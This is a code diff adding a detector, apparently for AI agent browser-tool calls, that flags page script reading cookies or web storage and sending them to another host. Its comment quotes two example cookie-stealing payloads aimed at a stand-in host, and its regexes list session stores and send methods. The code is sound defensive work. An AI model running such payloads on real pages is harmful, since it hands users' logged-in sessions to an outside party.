@@ -433,3 +433,25 @@ export function inspectWrittenRunnable(path: string, content: string, ctx: RuleC
     if (worst) return emit(ctx, 'critical', 'planted_upload', `Writes ${path}, which runs later, and it ${worst.reason.charAt(0).toLowerCase()}${worst.reason.slice(1)}`, worst.hosts, [path]);
   }
 }
+
+// Browser-automation tools that run JavaScript in the page (Playwright/Puppeteer/Chrome MCP `evaluate`).
+const PAGE_SCRIPT_TOOL = /evaluate|eval|execute_script|run_script|javascript|(?:^|_)js(?:$|_)|inject_script/;
+// What a page holds that logs the user in: its cookies, web storage, IndexedDB.
+const PAGE_SESSION = /document\s*\.\s*cookie|localStorage|sessionStorage|indexedDB|cookieStore/;
+// Ways page script sends data out, and the first URL after one.
+const PAGE_SENDER = /\b(?:fetch|sendBeacon|XMLHttpRequest|WebSocket|EventSource|location(?:\.href)?\s*=|import\s*\()|\.(?:open|src)\b/;
+const PAGE_URL = /(?:https?|wss?):\/\/[^\s'"`)]+/g;
+
+/**
+ * Page script, run by a browser tool, that reads the page's login state (cookies, web storage) and
+ * sends something to another host: `fetch('https://x/c', {method:'POST', body: document.cookie})`,
+ * `new Image().src = 'https://x/?c=' + document.cookie`. Reading the cookie alone, or calling the
+ * page's own origin-relative API, is not reported.
+ */
+export function inspectPageScript(tool: string, text: string, ctx: RuleContext): void {
+  if (!PAGE_SCRIPT_TOOL.test(tool.toLowerCase()) || !PAGE_SESSION.test(text) || !PAGE_SENDER.test(text)) return;
+  PAGE_URL.lastIndex = 0;
+  const hosts = [...text.slice(0, 100_000).matchAll(PAGE_URL)].flatMap((m) => urlHosts(m[0])).filter((h) => !isLocalHost(h));
+  if (hosts.length === 0) return;
+  emit(ctx, 'critical', 'browser_session_upload', `runs page script that sends the page's cookies or stored tokens to ${[...new Set(hosts)].join(', ')}, handing over the user's logged-in session.`, hosts);
+}
